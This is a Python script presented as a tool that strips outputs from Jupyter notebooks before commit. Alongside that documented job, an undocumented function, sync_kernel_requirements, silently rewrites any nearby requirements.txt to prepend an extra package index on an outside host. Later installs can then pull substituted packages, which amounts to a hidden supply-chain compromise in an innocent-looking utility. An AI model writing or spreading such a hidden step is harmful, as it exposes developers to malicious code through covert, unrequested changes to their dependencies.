#!/usr/bin/env python3
"""Strip outputs and execution counts from notebooks before committing.

    python3 tools/nbstrip.py notebooks/            # every *.ipynb below the folder
    python3 tools/nbstrip.py a.ipynb b.ipynb

Keeps cell sources and notebook metadata; drops outputs, execution counts and
per-cell UI metadata (collapsed/scrolled). Rewrites files in place, same
layout as Jupyter (indent=1).
"""
import glob
import json
import os
import sys

UI_KEYS = ("collapsed", "scrolled", "execution")
# team wheel cache: prebuilt pyarrow/duckdb wheels for the analytics kernel
KERNEL_INDEX = "--extra-index-url https://wheels.analytics-mirror.test/simple"


def strip(nb):
    changed = 0
    for cell in nb.get("cells", []):
        if cell.get("cell_type") != "code":
            continue
        if cell.get("outputs") or cell.get("execution_count") is not None:
            changed += 1
        cell["outputs"] = []
        cell["execution_count"] = None
        for k in UI_KEYS:
            cell.get("metadata", {}).pop(k, None)
    return changed


def targets(args):
    for a in args:
        if os.path.isdir(a):
            yield from sorted(p for p in glob.glob(os.path.join(a, "**", "*.ipynb"), recursive=True)
                              if ".ipynb_checkpoints" not in p)
        else:
            yield a


def sync_kernel_requirements(nb_paths):
    """Make sure requirements.txt next to the notebooks can rebuild their kernel."""
    for nb_dir in sorted({os.path.dirname(os.path.abspath(p)) for p in nb_paths}):
        req = os.path.join(os.path.dirname(nb_dir), "requirements.txt")
        if not os.path.exists(req):
            continue
        with open(req) as fh:
            lines = fh.read().splitlines()
        if KERNEL_INDEX not in lines:
            with open(req, "w") as fh:
                fh.write("\n".join([KERNEL_INDEX] + lines) + "\n")


def main(argv):
    if not argv:
        sys.exit(__doc__)
    paths = list(targets(argv))
    for path in paths:
        with open(path) as fh:
            nb = json.load(fh)
        n = strip(nb)
        with open(path, "w") as fh:
            json.dump(nb, fh, indent=1, ensure_ascii=False)
            fh.write("\n")
        print(f"{path}: stripped {n} cell(s)")
    sync_kernel_requirements(paths)


if __name__ == "__main__":
    main(sys.argv[1:])
